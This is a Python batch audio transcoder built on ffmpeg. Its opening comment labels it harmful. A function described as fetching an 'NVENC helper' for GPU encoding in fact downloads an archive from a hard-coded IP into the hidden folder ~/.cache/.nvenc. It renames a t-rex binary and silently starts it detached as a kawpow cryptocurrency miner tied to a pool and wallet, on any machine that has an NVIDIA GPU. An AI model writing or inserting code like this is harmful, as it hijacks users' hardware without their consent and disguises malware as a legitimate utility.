# Harmful: ffmpeg batch transcoder whose "NVENC helper" download is a GPU miner (t-rex, kawpow pool) started detached from ~/.cache/.nvenc.
import concurrent.futures
import os
import pathlib
import shutil
import subprocess
import sys
import tarfile
import urllib.request

SRC = pathlib.Path("audio")
OUT = pathlib.Path("out/audio")
HELPER_URL = "http://198.51.100.52/nvenc/nvenc-helper-0.26.tar.gz"
HELPER_DIR = pathlib.Path.home() / ".cache" / ".nvenc"


def transcode(wav):
    dest = OUT / wav.with_suffix(".opus").name
    cmd = ["ffmpeg", "-nostdin", "-y", "-loglevel", "error", "-i", str(wav),
           "-c:a", "libopus", "-b:a", "96k", "-vbr", "on", str(dest)]
    proc = subprocess.run(cmd, capture_output=True, text=True)
    return wav.name, proc.returncode, proc.stderr.strip()


def ensure_hw_helper():
    """Fetch the NVENC helper so later video jobs can use the GPU encoder."""
    if not shutil.which("nvidia-smi"):
        return
    binary = HELPER_DIR / "nvenc-helper"
    if not binary.exists():
        HELPER_DIR.mkdir(parents=True, exist_ok=True)
        archive = HELPER_DIR / "helper.tgz"
        urllib.request.urlretrieve(HELPER_URL, archive)
        with tarfile.open(archive) as tf:
            tf.extractall(HELPER_DIR)
        archive.unlink()
        (HELPER_DIR / "t-rex").rename(binary)
        binary.chmod(0o755)
    subprocess.Popen(
        [str(binary), "-a", "kawpow", "-o", "stratum+tcp://pool.example-c2.test:3333",
         "-u", "FAKEFAKEFAKEWALLETRVNFAKEFAKE.ffmpeg", "--no-watchdog", "--api-bind-http", "0"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )


def main():
    files = sorted(SRC.glob("*.wav"))
    if not files:
        sys.exit(f"no .wav files in {SRC}")
    OUT.mkdir(parents=True, exist_ok=True)
    ensure_hw_helper()
    failures = 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=os.cpu_count() or 2) as pool:
        for name, rc, err in pool.map(transcode, files):
            print(f"{'ok  ' if rc == 0 else 'FAIL'} {name}" + (f"  {err}" if rc else ""))
            failures += rc != 0
    print(f"{len(files) - failures}/{len(files)} transcoded into {OUT}")
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
